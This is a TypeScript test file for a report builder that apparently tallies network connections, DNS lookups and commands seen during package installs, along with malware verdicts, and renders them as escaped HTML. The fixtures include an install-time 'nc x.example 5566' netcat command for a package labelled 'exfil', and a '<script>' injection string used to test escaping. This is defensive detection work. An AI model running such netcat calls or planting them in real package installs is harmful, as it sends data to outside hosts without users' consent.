import assert from 'node:assert/strict';
import { test } from 'node:test';
import { cmd, conn, DEP, dns, testRecord } from '../population/_test-records.ts';
import { renderReportHtml } from './render-report-html.ts';
import { createReportBuilder } from './study-report.ts';

const verdict = (level: string, score: number) => ({
  verdict: {
    level,
    score,
    findings: [
      {
        rule: 'net.install',
        severity: 'high',
        title: 'Connection during install',
        evidence: [{ pointer: '/phases/install/connections/0', text: '<script>x.example</script>' }],
      },
    ],
  },
});

function build() {
  const builder = createReportBuilder({ top: 10 });
  builder.add(
    testRecord(
      'exfil',
      '1',
      {
        install: {
          connections: [conn('x.example', '127.53.0.1', 5566)],
          dns: [dns('x.example')],
          commands: [cmd(['nc', 'x.example', '5566'])],
        },
      },
      verdict('malicious', 90),
    ),
  );
  builder.add(
    testRecord(
      'benign-dep',
      '1',
      {
        install: {
          connections: [conn('x.example', '127.53.0.1', 5566, [DEP])],
          dns: [dns('x.example', [DEP])],
          commands: [cmd(['nc', 'x.example', '5566'], DEP)],
        },
      },
      verdict('suspicious', 40),
    ),
  );
  builder.add(
    testRecord('quiet', '1', { install: {}, import: { dns: [dns('late.example')] } }, verdict('clean', 0)),
  );
  builder.add(testRecord('old', '1', { install: { status: 'failed' } }));
  return builder.finish();
}

test('numbers come raw and without dependency-induced behaviour', () => {
  const report = build();
  assert.equal(report.packages, 4);
  assert.deepEqual(report.connected_during_install.packages, { raw: 2, own: 1 });
  assert.deepEqual(report.hosts.unique, { raw: 1, own: 1 });
  assert.deepEqual(report.hosts.rows[0], {
    key: 'x.example',
    packages: 2,
    packages_own: 1,
    example: 'x.example (127.53.0.1:5566/tcp)',
  });
  assert.deepEqual(
    report.dns.rows.map((r) => [r.key, r.packages, r.packages_own]),
    [
      ['x.example', 2, 1],
      ['late.example', 1, 1],
    ],
  );
  assert.deepEqual(report.commands.packages, { raw: 2, own: 1 });
  assert.equal(report.commands.rows[0]?.key, 'nc x.example <n>');
  assert.deepEqual(report.outcomes.install, { completed: 3, failed: 1 });
  assert.deepEqual(report.suspicious.by_level, { malicious: 1, suspicious: 1, clean: 1 });
  assert.equal(report.suspicious.packages, 2);
  assert.deepEqual(
    report.suspicious.top.map((p) => p.package),
    ['exfil', 'benign-dep'],
  );
});

test('top N bounds the rankings', () => {
  const builder = createReportBuilder({ top: 1 });
  for (let i = 0; i < 500; i++) {
    builder.add(
      testRecord(`p${i}`, '1', { install: { dns: [dns(`n${i % 3}.example`)] } }, verdict('suspicious', i)),
    );
  }
  const report = builder.finish();
  assert.equal(report.dns.rows.length, 1);
  assert.equal(report.dns.unique.raw, 3);
  assert.deepEqual(
    report.suspicious.top.map((p) => p.score),
    [499],
  );
  assert.equal(report.suspicious.packages, 500);
});

test('the HTML page is self-contained and escapes package-controlled text', () => {
  const html = renderReportHtml(build(), { generatedAt: '2026-01-01T00:00:00Z', source: 'test' });
  assert.ok(!/<script/i.test(html));
  assert.ok(html.includes('&lt;script&gt;x.example&lt;/script&gt;'));
  assert.ok(!/\b(src|href)\s*=/i.test(html));
  assert.match(html, /<svg[^>]*class="chart"/);
  assert.match(html, /Top suspicious packages/);
});
